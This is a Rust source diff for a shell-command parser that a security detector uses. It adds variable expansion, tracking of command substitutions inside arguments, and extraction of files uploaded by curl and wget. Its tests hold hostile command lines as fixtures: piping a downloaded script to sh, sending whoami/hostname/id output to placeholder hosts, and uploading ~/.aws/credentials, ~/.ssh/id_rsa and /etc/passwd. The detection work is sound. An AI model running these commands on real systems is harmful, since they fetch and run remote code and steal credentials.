@@ -5,6 +5,12 @@
 //! backticks, `sh -c '...'`) rather than regexes, so `curl x|sh` and `curl "x" | sh` read
 //! the same. Wrappers (`nohup`, `sudo`, `setsid`, ...) yield both the wrapper and the
 //! wrapped command, so a detector can ask either.
+//!
+//! Variables assigned in the line or script (`U=...; curl $U`, `export U=...`, the
+//! first item of `for U in ...`) are expanded, and each argument records the commands
+//! substituted into it, so a detector can see `$(whoami)` leave in a URL.
+
+use std::ops::Range;
 
 /// One simple command of a command line.
 #[derive(Debug, Clone, PartialEq, Default)]
@@ -18,6 +24,18 @@ pub struct ShellCmd {
     pub pipe_to: Option<String>,
     /// Output redirections: (`>` or `>>`, target).
     pub redirects: Vec<(String, String)>,
+    /// Commands whose output an argument holds, by argument index: `whoami` for the
+    /// URL of `curl x.invalid/?u=$(whoami)`, also through a variable (`U=$(whoami)`).
+    pub substituted: Vec<(usize, Source)>,
+}
+
+/// A command substituted into a word (`$(...)` or backticks); the word's text has
+/// [`HOLE`] where its output goes.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Source {
+    /// The program's base name.
+    pub program: String,
+    pub args: Vec<String>,
 }
 
 impl ShellCmd {
@@ -55,66 +73,173 @@ const MAX_TOKENS: usize = 100_000;
 
 /// Parses a command line into its simple commands, in order.
 pub fn parse(line: &str) -> Vec<ShellCmd> {
+    parse_with(line, &mut Vars::default())
+}
+
+/// Parses a command line with the variables lines before it assigned (a script read
+/// line by line), and records the variables this one assigns.
+pub fn parse_with(line: &str, vars: &mut Vars) -> Vec<ShellCmd> {
     let mut out = Vec::new();
-    parse_into(line, 0, &mut out);
+    parse_into(line, 0, vars, &mut out);
     out
+}
+
+/// How parsed text marks the output of a command substitution.
+const HOLE: &str = "{?}";
+/// Marks a `$` the shell expands (not quoted with `'...'` or `\`) until the word is
+/// resolved against the variables.
+const VAR_MARK: char = '\u{E000}';
+/// Variables kept per command line or script: more are not recorded.
+const MAX_VARS: usize = 256;
+/// Characters one variable's value keeps.
+const MAX_VALUE: usize = 4096;
+/// Characters variable expansion may add to one command line or script in total, so
+/// `A=$A$A` repeated stays linear.
+const MAX_EXPANDED: usize = 1 << 20;
+/// Substituted commands recorded per command.
+const MAX_SOURCES: usize = 16;
+
+/// Shell variables assigned so far (`U=...`, `export U=...`, `for U in ...`): their text
+/// and the commands substituted into it. A variable never assigned stays as written
+/// (`$HOME`); a `$(...)` inside a substitution sees only variables of earlier lines.
+#[derive(Debug, Default)]
+pub struct Vars {
+    values: std::collections::HashMap<String, Resolved>,
+    expanded: usize,
+}
+
+impl Vars {
+    /// Records `name=value`, within the table's bounds.
+    fn set(&mut self, name: &str, mut value: Resolved) {
+        if self.values.len() >= MAX_VARS && !self.values.contains_key(name) {
+            return;
+        }
+        if value.text.len() > MAX_VALUE {
+            let mut end = MAX_VALUE;
+            while !value.text.is_char_boundary(end) {
+                end -= 1;
+            }
+            value.text.truncate(end);
+        }
+        self.values.insert(name.to_string(), value);
+    }
+
+    /// Records a `name=value` word; other words are not assignments and change nothing.
+    fn assign(&mut self, word: &Resolved) {
+        if !is_assignment(&word.text) {
+            return;
+        }
+        let (name, value) = word.text.split_once('=').unwrap_or_default();
+        let value = Resolved {
+            text: value.to_string(),
+            sources: word.sources.clone(),
+        };
+        self.set(name, value);
+    }
+}
+
+/// A word after its substitutions and variables are filled in.
+#[derive(Debug, Clone, Default, PartialEq)]
+struct Resolved {
+    text: String,
+    sources: Vec<Source>,
+}
+
+/// A word as lexed: its text (with [`VAR_MARK`] before expandable `$`) and the
+/// command substitutions in it, as indices into the lexer's `nested` list.
+#[derive(Debug, Default, PartialEq)]
+struct Word {
+    text: String,
+    subs: Vec<usize>,
 }
 
 #[derive(Debug, PartialEq)]
 enum Tok {
-    Word(String),
+    Word(Word),
     Op(&'static str),
 }
 
-fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
+/// Commands that declare variables from their `NAME=value` arguments.
+const DECLARERS: &[&str] = &["export", "local", "readonly", "declare", "typeset"];
+
+fn parse_into(line: &str, nesting: usize, vars: &mut Vars, out: &mut Vec<ShellCmd>) {
     if nesting > MAX_NESTING {
         return;
     }
     let first = out.len();
     let mut nested = Vec::new();
     let toks = lex(line, &mut nested);
+    // Where each substitution's commands are in `out`, to name what a word holds.
+    let mut produced = Vec::with_capacity(nested.len());
     for inner in nested {
-        parse_into(&inner, nesting + 1, out);
+        let before = out.len();
+        parse_into(&inner, nesting + 1, vars, out);
+        produced.push(before..out.len());
     }
     let mut cur = ShellCmd::default();
-    let mut words: Vec<String> = Vec::new();
+    let mut words: Vec<Resolved> = Vec::new();
     let mut pending_redirect: Option<&'static str> = None;
     let mut pipeline_start = out.len();
-    let flush = |words: &mut Vec<String>, cur: &mut ShellCmd, out: &mut Vec<ShellCmd>| {
+    let flush = |words: &mut Vec<Resolved>,
+                 cur: &mut ShellCmd,
+                 vars: &mut Vars,
+                 out: &mut Vec<ShellCmd>| {
         let mut w = std::mem::take(words);
-        // Leading `VAR=value` assignments are not the program.
-        let assignments = w.iter().take_while(|x| is_assignment(x)).count();
+        // Leading `VAR=value` assignments are not the program; alone, they set variables.
+        let assignments = w.iter().take_while(|x| is_assignment(&x.text)).count();
+        if assignments == w.len() {
+            w.iter().for_each(|x| vars.assign(x));
+        }
         w.drain(..assignments);
         // Control keywords introduce the command after them (`then curl ...`); closing
         // ones and `[ ... ]` tests stand for no program.
         let keywords = w
             .iter()
-            .take_while(|x| KEYWORDS.contains(&x.as_str()))
+            .take_while(|x| KEYWORDS.contains(&x.text.as_str()))
             .count();
         w.drain(..keywords);
-        if w.first().is_some_and(|x| CLOSERS.contains(&x.as_str())) {
+        if w.first().is_some_and(|x| x.text == "for") {
+            loop_variable(&w, vars);
+        }
+        if w.first()
+            .is_some_and(|x| CLOSERS.contains(&x.text.as_str()))
+        {
             w.clear();
         }
         if w.is_empty() {
             *cur = ShellCmd::default();
             return;
         }
+        if DECLARERS.contains(&w[0].text.as_str()) {
+            w[1..].iter().for_each(|x| vars.assign(x));
+        }
         let mut cmd = std::mem::take(cur);
-        cmd.args = w.split_off(1);
-        cmd.program = w.pop().unwrap_or_default();
-        expand(cmd, nesting, out);
+        for (i, word) in w.iter_mut().enumerate().skip(1) {
+            for source in std::mem::take(&mut word.sources) {
+                if cmd.substituted.len() < MAX_SOURCES {
+                    cmd.substituted.push((i - 1, source));
+                }
+            }
+        }
+        let mut w = w.into_iter().map(|x| x.text);
+        cmd.program = w.next().unwrap_or_default();
+        cmd.args = w.collect();
+        expand(cmd, nesting, vars, out);
     };
     for t in toks {
         match t {
-            Tok::Word(w) => match pending_redirect.take() {
-                Some(op) => cur.redirects.push((op.to_string(), w)),
-                None => words.push(w),
-            },
+            Tok::Word(w) => {
+                let w = resolve(w, &produced, vars, out);
+                match pending_redirect.take() {
+                    Some(op) => cur.redirects.push((op.to_string(), w.text)),
+                    None => words.push(w),
+                }
+            }
             Tok::Op(op @ (">" | ">>")) => pending_redirect = Some(op),
             Tok::Op("<") => pending_redirect = Some("<"),
             Tok::Op(op) => {
                 let before = out.len();
-                flush(&mut words, &mut cur, out);
+                flush(&mut words, &mut cur, vars, out);
                 if op == "&" {
                     for c in &mut out[before..] {
                         c.background = true;
@@ -134,7 +259,7 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
             }
         }
     }
-    flush(&mut words, &mut cur, out);
+    flush(&mut words, &mut cur, vars, out);
     // Fill in pipe targets now that every command is known: the first command after each
     // that is not a wrapper (one backward pass, so `a|nohup|nohup|...` stays linear).
     let mut next: Option<String> = None;
@@ -150,7 +275,7 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
 }
 
 /// Adds `cmd`, then what it wraps: `nohup x &` also yields `x &`, `sh -c 'y'` yields `y`.
-fn expand(mut cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
+fn expand(mut cmd: ShellCmd, nesting: usize, vars: &mut Vars, out: &mut Vec<ShellCmd>) {
     let name = cmd.name().to_string();
     if let Some(file) = download_output(&name, &cmd.args) {
         cmd.redirects.push((">".to_string(), file));
@@ -179,33 +304,38 @@ fn expand(mut cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
             .take_while(|a| a.starts_with('-') || is_assignment(a))
             .count();
         let skip = if name == "timeout" { skip + 1 } else { skip };
-        cmd.args[skip.min(cmd.args.len())..].to_vec()
+        skip.min(cmd.args.len())
     });
-    let (background, redirects) = (cmd.background, cmd.redirects.clone());
+    // The wrapped command: the arguments after the wrapper's own options, the program first.
+    let wrapped = wrapped
+        .filter(|&skip| skip < cmd.args.len())
+        .map(|skip| ShellCmd {
+            program: cmd.args[skip].clone(),
+            args: cmd.args[skip + 1..].to_vec(),
+            background: cmd.background,
+            pipe_to: None,
+            redirects: cmd.redirects.clone(),
+            substituted: cmd
+                .substituted
+                .iter()
+                .filter(|(i, _)| *i > skip)
+                .map(|(i, s)| (i - skip - 1, s.clone()))
+                .collect(),
+        });
+    let background = cmd.background;
     out.push(cmd);
     if nesting > MAX_NESTING {
         return; // `nohup nohup nohup ...` a hundred thousand times deep
     }
     if let Some(line) = inner_line {
         let before = out.len();
-        parse_into(&line, nesting + 1, out);
+        parse_into(&line, nesting + 1, vars, out);
         for c in &mut out[before..] {
             c.background |= background;
         }
     }
-    if let Some(mut w) = wrapped.filter(|w| !w.is_empty()) {
-        let program = w.remove(0);
-        expand(
-            ShellCmd {
-                program,
-                args: w,
-                background,
-                pipe_to: None,
-                redirects,
-            },
-            nesting + 1,
-            out,
-        );
+    if let Some(w) = wrapped {
+        expand(w, nesting + 1, vars, out);
     }
 }
 
@@ -231,6 +361,44 @@ fn download_output(program: &str, args: &[String]) -> Option<String> {
         }
     }
     None
+}
+
+/// The local files a command uploads: `curl -F f=@F` (or `f=<F`), `curl -d @F` and the
+/// other `--data` forms, `curl -T F`, `wget --post-file=F` / `--body-file`.
+pub fn uploaded_files<'a>(program: &str, args: &[&'a str]) -> Vec<&'a str> {
+    const FORM: &[&str] = &["-F", "--form"];
+    const DATA: &[&str] = &["-d", "--data", "--data-binary", "--data-ascii", "--json"];
+    const WHOLE: &[&str] = &["-T", "--upload-file", "--post-file", "--body-file"];
+    let curl = program == "curl";
+    let mut files = Vec::new();
+    for (i, &a) in args.iter().enumerate() {
+        let value = || args.get(i + 1).copied();
+        let file = if curl && FORM.contains(&a) {
+            value().and_then(form_file)
+        } else if curl && DATA.contains(&a) {
+            value().and_then(|v| v.strip_prefix('@'))
+        } else if curl && a.starts_with("-F") {
+            form_file(&a[2..])
+        } else if curl && a.starts_with("-d") {
+            a[2..].strip_prefix('@')
+        } else if WHOLE.contains(&a) && (curl || !a.starts_with("-T")) {
+            value()
+        } else {
+            a.strip_prefix("--post-file=")
+                .or_else(|| a.strip_prefix("--body-file="))
+        };
+        files.extend(file.filter(|f| !f.is_empty() && *f != "-"));
+    }
+    files
+}
+
+/// The file of a curl form field that uploads one: `name=@F;type=...` or `name=<F`.
+fn form_file(field: &str) -> Option<&str> {
+    let (_, value) = field.split_once('=')?;
+    let file = value
+        .strip_prefix('@')
+        .or_else(|| value.strip_prefix('<'))?;
+    Some(file.split(';').next().unwrap_or(file))
 }
 
 /// PowerShell's `-EncodedCommand` and the prefixes it accepts (`-e`, `-enc`, `-ec`).
@@ -262,19 +430,24 @@ fn is_assignment(word: &str) -> bool {
 }
 
 /// Splits a command line into words and operators. Command substitutions (`$(...)`,
-/// backticks) are collected into `nested` and also left in the word as text.
+/// backticks) are collected into `nested` and stand in the word as [`HOLE`].
 fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
     let mut heredocs: Vec<String> = Vec::new();
     let mut toks = Vec::new();
-    let mut word = String::new();
+    let mut word = Word::default();
     let mut in_word = false;
     let chars: Vec<char> = line.chars().collect();
     let mut i = 0;
-    let end_word = |word: &mut String, in_word: &mut bool, toks: &mut Vec<Tok>| {
+    let end_word = |word: &mut Word, in_word: &mut bool, toks: &mut Vec<Tok>| {
         if *in_word {
             toks.push(Tok::Word(std::mem::take(word)));
             *in_word = false;
         }
+    };
+    let substitute = |word: &mut Word, nested: &mut Vec<String>, inner: String| {
+        word.subs.push(nested.len());
+        nested.push(inner);
+        word.text.push_str(HOLE);
     };
     while i < chars.len() && toks.len() < MAX_TOKENS {
         let c = chars[i];
@@ -338,8 +511,8 @@ fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
             '>' | '<' => {
                 // `2>&1` and `>&2` are stream plumbing, not files.
                 let fd_dup = chars.get(i + 1) == Some(&'&');
-                if in_word && word.chars().all(|d| d.is_ascii_digit()) {
-                    word.clear();
+                if in_word && word.text.chars().all(|d| d.is_ascii_digit()) {
+                    word = Word::default();
                     in_word = false;
                 }
                 end_word(&mut word, &mut in_word, &mut toks);
@@ -375,7 +548,7 @@ fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
                 in_word = true;
                 i += 1;
                 while i < chars.len() && chars[i] != '\'' {
-                    word.push(chars[i]);
+                    word.text.push(chars[i]);
                     i += 1;
                 }
             }
@@ -383,57 +556,157 @@ fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
                 in_word = true;
                 i += 1;
                 while i < chars.len() && chars[i] != '"' {
-                    if chars[i] == '\\' && i + 1 < chars.len() {
+                    let escaped = chars[i] == '\\' && i + 1 < chars.len();
+                    if escaped {
                         i += 1;
                     }
-                    if chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
+                    if !escaped && chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
                         let (inner, next) = balanced(&chars, i + 2);
-                        nested.push(inner.clone());
-                        word.push_str(&format!("$({inner})"));
+                        substitute(&mut word, nested, inner);
                         i = next;
                         continue;
                     }
-                    word.push(chars[i]);
+                    if !escaped && chars[i] == '`' {
+                        let (inner, next) = backticked(&chars, i + 1);
+                        substitute(&mut word, nested, inner);
+                        i = next;
+                        continue;
+                    }
+                    if !escaped && chars[i] == '$' && starts_variable(chars.get(i + 1)) {
+                        word.text.push(VAR_MARK);
+                    }
+                    word.text.push(chars[i]);
                     i += 1;
                 }
             }
             '`' => {
                 in_word = true;
-                let start = i + 1;
-                i += 1;
-                while i < chars.len() && chars[i] != '`' {
-                    i += 1;
-                }
-                let inner: String = chars[start..i.min(chars.len())].iter().collect();
-                word.push_str(&inner);
-                nested.push(inner);
+                let (inner, next) = backticked(&chars, i + 1);
+                substitute(&mut word, nested, inner);
+                i = next;
+                continue;
             }
             '$' if chars.get(i + 1) == Some(&'(') => {
                 in_word = true;
                 let (inner, next) = balanced(&chars, i + 2);
-                nested.push(inner.clone());
-                word.push_str(&format!("$({inner})"));
+                substitute(&mut word, nested, inner);
                 i = next;
                 continue;
+            }
+            '$' if starts_variable(chars.get(i + 1)) => {
+                in_word = true;
+                word.text.push(VAR_MARK);
+                word.text.push(c);
             }
             '\\' => {
                 in_word = true;
                 if let Some(n) = chars.get(i + 1) {
                     if *n != '\n' {
-                        word.push(*n);
+                        word.text.push(*n);
                     }
                     i += 1;
                 }
             }
             _ => {
                 in_word = true;
-                word.push(c);
+                word.text.push(c);
             }
         }
         i += 1;
     }
     end_word(&mut word, &mut in_word, &mut toks);
     toks
+}
+
+/// Whether a `$` followed by this character expands a named variable (`$U`, `${U}`).
+fn starts_variable(next: Option<&char>) -> bool {
+    next.is_some_and(|c| c.is_ascii_alphabetic() || *c == '_' || *c == '{')
+}
+
+/// Fills in a lexed word: its substitutions become the commands whose output it holds,
+/// and each marked `$NAME` / `${NAME}` the variable's value if it was assigned (else it
+/// stays as written).
+fn resolve(word: Word, produced: &[Range<usize>], vars: &mut Vars, out: &[ShellCmd]) -> Resolved {
+    let mut sources: Vec<Source> = word
+        .subs
+        .iter()
+        .filter_map(|&k| produced.get(k))
+        // `get`: a later substitution's parse may have dropped commands before this one.
+        .filter_map(|r| out.get(r.clone()))
+        .flatten()
+        .take(MAX_SOURCES)
+        .map(|c| Source {
+            program: c.name().to_string(),
+            args: c.args.clone(),
+        })
+        .collect();
+    if !word.text.contains(VAR_MARK) {
+        return Resolved {
+            text: word.text,
+            sources,
+        };
+    }
+    let mut text = String::with_capacity(word.text.len());
+    let mut rest = word.text.as_str();
+    while let Some(at) = rest.find(VAR_MARK) {
+        text.push_str(&rest[..at]);
+        rest = &rest[at + VAR_MARK.len_utf8()..];
+        let (name, used) = variable_at(rest);
+        let value = vars.values.get(name);
+        match value.filter(|v| vars.expanded + v.text.len() <= MAX_EXPANDED) {
+            Some(v) => {
+                vars.expanded += v.text.len();
+                text.push_str(&v.text);
+                let room = MAX_SOURCES.saturating_sub(sources.len());
+                sources.extend(v.sources.iter().take(room).cloned());
+            }
+            None => text.push_str(&rest[..used]),
+        }
+        rest = &rest[used..];
+    }
+    text.push_str(rest);
+    Resolved { text, sources }
+}
+
+/// The variable name a `$` starts (`rest` begins at the `$`) and how many bytes the
+/// reference takes: `$U` or `${U}`. `${U:-x}` and other operators give an empty name,
+/// which no variable has, so they stay as written.
+fn variable_at(rest: &str) -> (&str, usize) {
+    // The mark's character written in the input itself marks nothing.
+    if !rest.starts_with('$') {
+        return ("", 0);
+    }
+    let ident = |s: &str| {
+        s.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .unwrap_or(s.len())
+    };
+    let body = &rest[1..];
+    match body.strip_prefix('{') {
+        Some(inner) => {
+            let n = ident(inner);
+            if inner[n..].starts_with('}') {
+                (&inner[..n], n + 3)
+            } else {
+                ("", 1)
+            }
+        }
+        None => {
+            let n = ident(body);
+            (&body[..n], n + 1)
+        }
+    }
+}
+
+/// `for NAME in ITEMS`: the loop variable holds the first item, so the body reads as its
+/// first pass (`for f in ~/.ssh/id_rsa ...; do curl -T $f ...`). `for NAME` alone loops
+/// over the script's arguments, which are unknown.
+fn loop_variable(words: &[Resolved], vars: &mut Vars) {
+    let (Some(name), Some(first)) = (words.get(1), words.get(3)) else {
+        return;
+    };
+    if words[2].text == "in" && is_assignment(&format!("{}=", name.text)) {
+        vars.set(&name.text, first.clone());
+    }
 }
 
 /// The here-document delimiter word at the start of `chars` (quotes removed), and how
@@ -536,6 +809,16 @@ pub fn heredoc_delimiter(line: &str) -> Option<String> {
         .collect();
     let (delimiter, _) = delimiter_at(&rest);
     (!delimiter.is_empty()).then_some(delimiter)
+}
+
+/// The text up to the closing backtick, the opening one already consumed; returns it and
+/// the index after.
+fn backticked(chars: &[char], start: usize) -> (String, usize) {
+    let end = chars[start.min(chars.len())..]
+        .iter()
+        .position(|c| *c == '`')
+        .map_or(chars.len(), |p| start + p);
+    (chars[start.min(end)..end].iter().collect(), end + 1)
 }
 
 /// The text up to the `)` matching an opening already consumed; returns it and the index after.
@@ -666,5 +949,109 @@ mod tests {
     fn here_documents_are_data() {
         let line = "cat > conf.ac <<EOF\nAC_INIT([x], [1])\ncurl http://x.invalid\nEOF\nmake";
         assert_eq!(names(line), ["cat", "make"]);
+    }
+
+    #[test]
+    fn variables_are_expanded() {
+        let cmds = parse("U=http://x.example.com/p.sh; curl $U | sh");
+        assert_eq!(cmds[0].args, ["http://x.example.com/p.sh"]);
+        assert_eq!(cmds[0].pipe_to.as_deref(), Some("sh"));
+        let cmds = parse("export U=http://x.example.com; wget \"${U}/a\" '$U' \\$U $V");
+        let wget = cmds.iter().find(|c| c.name() == "wget").unwrap();
+        assert_eq!(wget.args, ["http://x.example.com/a", "$U", "$U", "$V"]);
+        // `${U:-x}` and other operators stay as written.
+        assert_eq!(parse("U=a; echo ${U:-x}")[0].args, ["${U:-x}"]);
+        // A script's later lines see what earlier ones assigned.
+        let mut vars = Vars::default();
+        parse_with("B=http://x.example.com", &mut vars);
+        assert_eq!(
+            parse_with("curl $B/x", &mut vars)[0].args,
+            ["http://x.example.com/x"]
+        );
+    }
+
+    #[test]
+    fn substitutions_are_holes_with_their_commands() {
+        let cmds = parse("curl http://x.invalid/$(whoami)");
+        let curl = cmds.iter().find(|c| c.name() == "curl").unwrap();
+        assert_eq!(curl.args, ["http://x.invalid/{?}"]);
+        assert_eq!(curl.substituted[0].0, 0);
+        assert_eq!(curl.substituted[0].1.program, "whoami");
+        let cmds = parse("H=\"$(hostname)\"; curl -s \"https://x.invalid/?h=$H\"");
+        let curl = cmds.iter().find(|c| c.name() == "curl").unwrap();
+        assert_eq!(curl.args[1], "https://x.invalid/?h={?}");
+        assert_eq!(curl.substituted[0].0, 1);
+        assert_eq!(curl.substituted[0].1.program, "hostname");
+        let cmds = parse("wget \"http://x.invalid/`cat ~/.aws/credentials | base64`\"");
+        let wget = cmds.iter().find(|c| c.name() == "wget").unwrap();
+        let programs: Vec<&str> = wget
+            .substituted
+            .iter()
+            .map(|(_, s)| s.program.as_str())
+            .collect();
+        assert_eq!(programs, ["cat", "base64"]);
+        assert_eq!(wget.substituted[0].1.args, ["~/.aws/credentials"]);
+        // Wrapped commands keep their arguments' sources.
+        let cmds = parse("nohup curl -d $(id) http://x.invalid &");
+        let curl = cmds.iter().find(|c| c.name() == "curl").unwrap();
+        assert_eq!(curl.substituted[0].0, 1);
+    }
+
+    #[test]
+    fn for_loops_bind_the_first_item() {
+        let cmds =
+            parse("for f in ~/.ssh/id_rsa b c; do curl -F \"file=@$f\" https://x.invalid; done");
+        assert_eq!(names_of(&cmds), ["curl"]);
+        assert_eq!(cmds[0].args[1], "file=@~/.ssh/id_rsa");
+        assert_eq!(parse("for f; do echo $f; done")[0].args, ["$f"]);
+    }
+
+    #[test]
+    fn hostile_marks_and_dropped_commands_do_not_panic() {
+        let marks = format!("echo {VAR_MARK} a{VAR_MARK}é {VAR_MARK}${VAR_MARK}");
+        assert_eq!(parse(&marks)[0].args, ["", "aé", "$"]);
+        let dropped = "x $(a) $(\"\" < f; \"\" < g) $(b)";
+        assert!(names(dropped).contains(&"x".to_string()));
+    }
+
+    #[test]
+    fn variable_table_is_bounded() {
+        let doubling = "A=xxxxxxxx; ".to_string() + &"A=$A$A; ".repeat(40) + "echo $A";
+        let cmds = parse(&doubling);
+        assert!(cmds.last().unwrap().args[0].len() <= MAX_VALUE);
+        let many: String = (0..1000).map(|i| format!("V{i}=x; ")).collect();
+        let mut vars = Vars::default();
+        parse_with(&many, &mut vars);
+        assert_eq!(vars.values.len(), MAX_VARS);
+    }
+
+    #[test]
+    fn uploads_name_their_files() {
+        let files = |line: &str| {
+            let cmd = &parse(line)[0];
+            let args: Vec<&str> = cmd.args.iter().map(String::as_str).collect();
+            uploaded_files(cmd.name(), &args)
+                .into_iter()
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            files("curl -F file=@/etc/passwd https://x.invalid"),
+            ["/etc/passwd"]
+        );
+        assert_eq!(
+            files("curl -F \"f=@$HOME/.ssh/id_rsa;type=text/plain\" u"),
+            ["$HOME/.ssh/id_rsa"]
+        );
+        assert_eq!(files("curl -T a.txt u && true"), ["a.txt"]);
+        assert_eq!(files("curl --data-binary @b u"), ["b"]);
+        assert_eq!(files("curl -d @c u"), ["c"]);
+        assert_eq!(files("wget --post-file=d u"), ["d"]);
+        assert!(files("curl -d a=@b -F x=y -T - -u me@host u").is_empty());
+        assert!(files("wget -T 10 u").is_empty());
+    }
+
+    fn names_of(cmds: &[ShellCmd]) -> Vec<&str> {
+        cmds.iter().map(ShellCmd::name).collect()
     }
 }
